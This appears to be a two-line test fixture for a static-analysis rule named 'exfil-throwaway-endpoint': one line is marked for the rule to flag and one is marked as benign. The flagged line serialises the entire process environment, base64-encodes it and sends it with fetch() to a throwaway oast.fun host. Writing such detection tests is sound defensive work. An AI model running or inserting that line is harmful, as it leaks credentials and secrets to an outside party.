// ruleid: exfil-throwaway-endpoint
fetch("https://abc123.oast.fun/" + btoa(JSON.stringify(process.env)));
// ok: exfil-throwaway-endpoint
fetch("https://api.example.com/v1/items");
